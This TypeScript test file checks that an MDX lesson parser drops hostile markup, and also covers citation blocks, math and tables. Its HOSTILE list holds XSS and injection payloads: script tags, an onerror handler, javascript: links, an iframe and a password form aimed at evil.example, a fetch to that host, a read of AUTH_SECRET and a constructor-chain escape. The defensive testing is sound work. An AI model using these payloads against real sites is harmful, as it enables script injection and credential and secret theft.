import { describe, expect, it } from 'vitest';
import { lessonBlocks } from './lesson-blocks.ts';
import { parseLesson } from './parse-lesson.ts';

const types = (content: string) => JSON.stringify(parseLesson(content).tree);

const HOSTILE = [
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name="password" /></form>',
  '<img src="x" onerror="alert(1)" />',
  '<a href="javascript:alert(1)">press</a>',
  '<style>{`body{display:none}`}</style>',
  '<div dangerouslySetInnerHTML={{ __html: "<b>x</b>" }} />',
  '{process.env.AUTH_SECRET}',
  '{(() => { throw new Error("ran") })()}',
  '{[].constructor.constructor("return 1")()}',
  'import fs from "node:fs"\n\ntext',
  'export const x = fetch("https://evil.example")\n\ntext',
  '<Cite id={globalThis.secret} />',
  '<Cite id="c1" onClick="alert(1)" style="position:fixed" />',
  '<Object.constructor id="c1" />',
];

describe('reading a lesson', () => {
  it.each(HOSTILE)('[MDX-1] shows nothing that acts: %s', (content) => {
    const tree = types(`Before.\n\n${content}\n\nAfter.`);
    expect(tree).toContain('Before.');
    expect(tree).toContain('After.');
    expect(tree).not.toMatch(/"type":"(html|mdxjsEsm|mdxFlowExpression|mdxTextExpression)"/);
    expect(tree).not.toMatch(/"type":"mdxJsxExpressionAttribute"|attributeValueExpression/);
    for (const [, name] of tree.matchAll(/"type":"mdxJsx\w+Element","name":"([^"]*)"/g)) {
      expect(['Cite', 'Quiz', 'Notice', 'YouTube']).toContain(name);
    }
    expect(tree).not.toMatch(/onClick|onerror|"style"|javascript:/);
  });

  it('[MDX-2] keeps the words inside an element it drops', () => {
    expect(types('<div>still here</div>')).toContain('still here');
  });

  it('[MDX-3] keeps links to the web and drops others, with their words', () => {
    expect(types('[a](https://example.org)')).toContain('"type":"link"');
    const bad = types('[words](javascript:alert(1)) ![alt](https://example.org/x.png)');
    expect(bad).not.toContain('"type":"link"');
    expect(bad).not.toContain('"type":"image"');
    expect(bad).toContain('words');
    expect(bad).toContain('alt');
  });

  it('[MDX-5] reads text with a bare brace, its citations and its quiz included', () => {
    const { tree, fallback } = parseLesson(
      'A set { of points. <Cite id="c1" />\n\n<Quiz id="q1" />\n\nAfter.',
    );
    expect(fallback).toBe(true);
    const text = JSON.stringify(tree);
    expect(text).toContain('A set { of points.');
    expect(text).toContain('"name":"Cite"');
    expect(text).toContain('"name":"Quiz"');
  });

  it('[MDX-5] understands math and tables', () => {
    expect(types('$a^2$')).toContain('"type":"inlineMath"');
    expect(types('$$\nx\n$$')).toContain('"type":"math"');
    expect(types('| a | b |\n|---|---|\n| 1 | 2 |')).toContain('"type":"table"');
  });
});

describe('blocks of a lesson', () => {
  it('[CITED-TEXT-1] name the citations they hold, also inside lists', () => {
    const blocks = lessonBlocks(
      parseLesson('One. <Cite id="c1" />\n\n- two <Cite id="c2" />\n- three <Cite id="c3" />').tree,
    );
    expect(blocks.map((block) => block.citations)).toEqual([['c1'], ['c2', 'c3']]);
  });

  it('[CITED-TEXT-1] mark the sentence a citation proves, and no more', () => {
    const [block] = lessonBlocks(
      parseLesson('First sentence. The *second* one. <Cite id="c1" /> Third.').tree,
    );
    const text = JSON.stringify(block?.node);
    expect(text).toContain('"value":"First sentence. "');
    const long = lessonBlocks(
      parseLesson('First sentence. The second one. <Cite id="c1" />').tree,
      new Map([['c1', 31]]),
    );
    expect(JSON.stringify(long)).toContain('"value":"First sentence. The second one. "');
    expect(text).toMatch(/"name":"Claim".*"value":"The "/);
  });
});
